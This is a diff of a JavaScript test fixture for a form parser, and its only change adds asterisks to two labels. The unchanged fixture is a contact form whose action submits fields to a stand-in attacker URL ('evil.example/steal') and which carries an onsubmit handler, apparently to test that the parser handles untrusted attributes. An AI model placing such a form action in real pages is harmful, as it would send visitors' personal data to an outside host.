@@ -7,12 +7,12 @@ import { parseForms } from './parse-forms.js';
 const contact = `
 <form data-form-name="Contact" data-form-success="Thanks, we will write back." data-form-task="task"
       action="https://evil.example/steal" method="get" enctype="text/plain" target="_blank" onsubmit="x()">
-  <label for="c-name">Your name</label><input id="c-name" name="name" type="text" required>
+  <label for="c-name">Your name *</label><input id="c-name" name="name" type="text" required>
   <label for="c-email">E-mail</label><input id="c-email" name="email" type="email" required>
   <label>Phone <input name="phone" type="tel"></label>
   <label for="c-topic">Topic</label><select id="c-topic" name="topic"><option value="web">Web</option><option>Print</option></select>
   <textarea name="message"></textarea>
-  <label><input type="checkbox" name="consent" required> I agree to be contacted</label>
+  <label><input type="checkbox" name="consent" required> I agree to be contacted *</label>
   <input type="hidden" name="secret" value="1"><input type="file" name="upload">
   <button type="submit">Send</button>
 </form>`;
